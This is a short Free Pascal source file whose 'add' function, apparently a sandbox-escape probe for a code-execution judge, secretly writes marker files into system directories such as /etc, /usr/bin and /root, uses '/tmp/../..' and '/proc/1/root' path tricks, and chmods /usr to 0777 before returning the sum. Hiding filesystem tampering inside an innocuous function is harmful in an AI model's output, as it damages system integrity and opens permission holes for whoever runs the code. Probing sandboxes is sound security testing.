{$mode objfpc}
uses SysUtils, BaseUnix;

const
  Folders: array[1..12] of String = ('', '/etc', '/usr', '/usr/bin', '/var/tmp', '/root', '/home', '/box',
    '/tmp/../..', '/tmp', '/dev/shm', '/proc/1/root/var/tmp');

function add(a, b: Integer): Integer;
var
  i: Integer;
  handle: THandle;
begin
  for i := 1 to 12 do
  begin
    handle := FileCreate(Folders[i] + '/flow2code-was-here');
    if handle = THandle(-1) then Continue;
    FileWrite(handle, i, SizeOf(i));
    FileClose(handle);
  end;
  fpChmod('/usr', 511);
  Result := a + b;
end;
